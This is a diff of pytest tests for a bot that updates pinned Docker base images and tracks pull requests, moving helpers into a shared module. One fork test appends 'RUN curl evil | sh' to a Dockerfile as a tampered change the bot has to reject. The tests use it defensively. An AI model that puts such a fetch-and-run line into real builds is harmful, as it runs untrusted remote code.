@@ -9,47 +9,21 @@ from pathlib import Path
 import pytest
 
 from bot.errors import ForgeRefused, RegistryUnreachable
-from bot.model.pulls import Conclusion, OpenPull, Proposal
-from bot.model.run import Publication, PublicationKind, PublicationState, PullRequest, RunResult
+from bot.model.pulls import Conclusion
+from bot.model.run import PublicationKind, PublicationState, PullRequest, RunResult
 from bot.model.update import Grouping, outcome_reason
 from bot.updates.rules import Rule
-from tests.unit.cycle.house import IMAGE, NOW, House, house, moved
-
-TEXT = "FROM {base}\nHEALTHCHECK CMD true\n"
-PROJECT = "acme/shop"
-
-
-def shop(folder: Path, *paths: str) -> House:
-    """A Dockerfile at each path, pinned to the old image of a tag that has moved."""
-    made = house(folder, {})
-    old, _ = moved(made)
-    made.forge.files[PROJECT] = {
-        path: TEXT.format(base=f"{IMAGE}@{old}").encode() for path in paths or ["Dockerfile"]
-    }
-    return made
-
-
-def changed(made: House, path: str = "Dockerfile") -> bytes:
-    """What an update makes of a file."""
-    draft = next(d for d in made.run(dry_run=True).drafts if d.pull_request and path in d.pull_request.files)
-    assert draft.pull_request is not None
-    return draft.pull_request.files[path]
-
-
-def opens(made: House, files: dict[str, bytes], *others: str, trusted: bool = True) -> OpenPull:
-    """Somebody opens a pull request."""
-    number = 70 + len(made.forge.opened.setdefault(PROJECT, []))
-    url = f"memory://{PROJECT}/pull/{number}"
-    pull = OpenPull(number, url, "renovate[bot]", "renovate/debian", "main", f"{number}" * 20, trusted)
-    made.forge.opened[PROJECT].insert(0, pull)
-    made.forge.proposals[url] = Proposal(files, others)
-    return pull
-
-
-def published(result: RunResult) -> Publication:
-    (update,) = result.updates
-    assert update.publication is not None
-    return update.publication
+from tests.unit.cycle.house import (
+    IMAGE,
+    NOW,
+    PROJECT,
+    changed,
+    house,
+    moved,
+    opens,
+    outdated,
+    published,
+)
 
 
 def reasons(result: RunResult) -> list[str]:
@@ -62,7 +36,7 @@ def reasons(result: RunResult) -> list[str]:
 def test_where_somebody_made_the_same_change_the_evidence_goes_there_and_none_is_opened(
     tmp_path: Path,
 ) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     pull = opens(made, {"Dockerfile": changed(made)})
 
     publication = published(made.run().result)
@@ -77,7 +51,7 @@ def test_where_somebody_made_the_same_change_the_evidence_goes_there_and_none_is
 
 
 def test_a_second_run_says_nothing_again_and_a_new_commit_gets_its_own_evidence(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     pull = opens(made, {"Dockerfile": changed(made)})
     made.run()
     writes = made.forge.writes
@@ -91,7 +65,7 @@ def test_a_second_run_says_nothing_again_and_a_new_commit_gets_its_own_evidence(
 
 
 def test_with_a_token_the_commit_gets_a_status_and_the_pull_request_one_comment(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     pull = opens(made, {"Dockerfile": changed(made)}, "package.json")
     made.forge.is_app = False
 
@@ -104,7 +78,7 @@ def test_with_a_token_the_commit_gets_a_status_and_the_pull_request_one_comment(
 
 
 def test_a_token_that_may_write_no_statuses_costs_the_status_only(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     made.forge.no_checks = ForgeRefused("cannot write the check", hint="it needs statuses: write")
 
     result = made.run().result
@@ -115,7 +89,7 @@ def test_a_token_that_may_write_no_statuses_costs_the_status_only(tmp_path: Path
 
 
 def test_evidence_only_opens_nothing(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
 
     result = made.run(evidence_only=True).result
 
@@ -128,7 +102,7 @@ def test_evidence_only_opens_nothing(tmp_path: Path) -> None:
 
 
 def test_another_digest_or_another_line_is_not_the_same_change(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     opens(made, {"Dockerfile": changed(made).replace(b"@sha256:", b"@sha256:0", 1)[:-1]})
     opens(made, {"Dockerfile": b"# moved\n" + changed(made)})
     opens(made, {}, "README.md")
@@ -137,18 +111,18 @@ def test_another_digest_or_another_line_is_not_the_same_change(tmp_path: Path) -
 
 
 def test_a_fork_gets_evidence_only_for_exactly_that_change(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     opens(made, {"Dockerfile": changed(made) + b"RUN curl evil | sh\n"}, trusted=False)
     opens(made, {"Dockerfile": changed(made)}, "build.sh", trusted=False)
     assert published(made.run().result).kind is PublicationKind.PULL_REQUEST
 
-    other = shop(tmp_path / "other")
+    other = outdated(tmp_path / "other")
     opens(other, {"Dockerfile": changed(other)}, trusted=False)
     assert published(other.run().result).kind is PublicationKind.EVIDENCE
 
 
 def test_ours_gives_way_to_one_that_came_later(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     wanted = made.forge.wanted[ours.url]
     assert isinstance(wanted, PullRequest)
@@ -161,7 +135,7 @@ def test_ours_gives_way_to_one_that_came_later(tmp_path: Path) -> None:
 
 
 def test_ours_comes_back_where_the_other_is_gone(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     wanted = made.forge.wanted[ours.url]
     assert isinstance(wanted, PullRequest)
@@ -176,7 +150,7 @@ def test_ours_comes_back_where_the_other_is_gone(tmp_path: Path) -> None:
 
 
 def test_what_others_do_not_change_is_still_ours_to_open(tmp_path: Path) -> None:
-    made = shop(tmp_path, "api/Dockerfile", "web/Dockerfile")
+    made = outdated(tmp_path, "api/Dockerfile", "web/Dockerfile")
     theirs = opens(made, {"api/Dockerfile": changed(made, "api/Dockerfile")})
 
     result = made.run().result
@@ -193,7 +167,7 @@ def test_what_others_do_not_change_is_still_ours_to_open(tmp_path: Path) -> None
 
 
 def test_a_person_who_closes_one_is_told_once_how_to_get_it_back(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     made.policy = replace(made.policy, hears=True)
     ours = published(made.run().result)
     made.forge.becomes(ours, PublicationState.CLOSED)
@@ -207,7 +181,7 @@ def test_a_person_who_closes_one_is_told_once_how_to_get_it_back(tmp_path: Path)
 
 
 def test_commands_are_offered_only_where_they_are_heard(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     made.forge.becomes(ours, PublicationState.CLOSED)
     made.run()
@@ -218,7 +192,7 @@ def test_commands_are_offered_only_where_they_are_heard(tmp_path: Path) -> None:
 
 
 def test_one_that_is_reopened_is_looked_after_again(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     made.forge.becomes(ours, PublicationState.CLOSED)
     made.run()
@@ -228,7 +202,7 @@ def test_one_that_is_reopened_is_looked_after_again(tmp_path: Path) -> None:
 
 
 def test_one_that_changes_fewer_files_is_superseded_with_a_link(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     first = published(made.run().result)
     made.forge.files[PROJECT]["web/Dockerfile"] = made.forge.files[PROJECT]["Dockerfile"]
 
@@ -247,7 +221,7 @@ def test_one_that_changes_fewer_files_is_superseded_with_a_link(tmp_path: Path) 
 def test_other_things_that_share_a_pull_request_supersede_the_old_ones(
     tmp_path: Path, before: Grouping, after: Grouping
 ) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     old, _ = moved(made, "nginx:1.29")
     made.forge.files[PROJECT]["web/Dockerfile"] = f"FROM nginx:1.29@{old}\n".encode()
     made.policy = replace(made.policy, rules=(Rule(minimum_age=timedelta(0), group=before),))
@@ -262,7 +236,7 @@ def test_other_things_that_share_a_pull_request_supersede_the_old_ones(
 
 
 def test_an_image_that_waits_is_not_superseded_by_another_tag_of_it(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     old, _ = moved(made, "debian:trixie-slim")
     made.forge.files[PROJECT]["web/Dockerfile"] = f"FROM debian:trixie-slim@{old}\n".encode()
     made.run()
@@ -275,7 +249,7 @@ def test_an_image_that_waits_is_not_superseded_by_another_tag_of_it(tmp_path: Pa
 
 
 def test_one_whose_change_somebody_made_on_the_base_branch_is_closed_as_done(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     new = changed(made)
     ours = published(made.run().result)
     made.forge.files[PROJECT]["Dockerfile"] = new
@@ -288,7 +262,7 @@ def test_one_whose_change_somebody_made_on_the_base_branch_is_closed_as_done(tmp
 
 
 def test_one_that_is_merged_is_remembered_as_merged_with_nothing_said(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     made.forge.merge(ours)
     writes = made.forge.writes
@@ -302,7 +276,7 @@ def test_one_that_is_merged_is_remembered_as_merged_with_nothing_said(tmp_path: 
 
 
 def test_one_whose_image_is_no_longer_named_is_closed(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     made.forge.files[PROJECT]["Dockerfile"] = b"FROM scratch\n"
 
@@ -323,7 +297,7 @@ def test_one_whose_image_is_no_longer_named_is_closed(tmp_path: Path) -> None:
 def test_a_dry_run_tells_what_it_would_close_and_closes_nothing(
     tmp_path: Path, path: str, words: str
 ) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     same = made.forge.files[PROJECT]["Dockerfile"]
     made.forge.files[PROJECT][path] = b"FROM scratch\n" if path == "Dockerfile" else same
@@ -337,7 +311,7 @@ def test_a_dry_run_tells_what_it_would_close_and_closes_nothing(
 
 
 def test_a_dry_run_tells_what_it_would_say_and_says_nothing(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     made.forge.becomes(ours, PublicationState.CLOSED)
 
@@ -348,7 +322,7 @@ def test_a_dry_run_tells_what_it_would_say_and_says_nothing(tmp_path: Path) -> N
 
 
 def test_nothing_is_closed_where_the_registry_gave_no_answer(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     ours = published(made.run().result)
     made.registry.fail(IMAGE, RegistryUnreachable("docker.io does not answer"))
 
@@ -358,7 +332,7 @@ def test_nothing_is_closed_where_the_registry_gave_no_answer(tmp_path: Path) -> 
 
 
 def test_a_build_context_that_moved_is_proved_anew_and_the_branch_moves_with_it(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     first = published(made.run().result)
     made.forge.files[PROJECT]["src/main.rs"] = b"fn main() {}\n"
 
@@ -372,7 +346,7 @@ def test_a_build_context_that_moved_is_proved_anew_and_the_branch_moves_with_it(
 
 
 def test_a_change_elsewhere_on_the_base_branch_writes_nothing(tmp_path: Path) -> None:
-    made = shop(tmp_path, "api/Dockerfile")
+    made = outdated(tmp_path, "api/Dockerfile")
     made.run()
     writes = made.forge.writes
     made.forge.files[PROJECT]["README.md"] = b"Hello.\n"
@@ -383,7 +357,7 @@ def test_a_change_elsewhere_on_the_base_branch_writes_nothing(tmp_path: Path) ->
 
 
 def test_a_kill_between_pull_request_and_record_says_everything_once(tmp_path: Path) -> None:
-    made = shop(tmp_path)
+    made = outdated(tmp_path)
     first = published(made.run().result)
     writes = made.forge.writes
     made.store.save_publication(replace(first, body_digest=""))
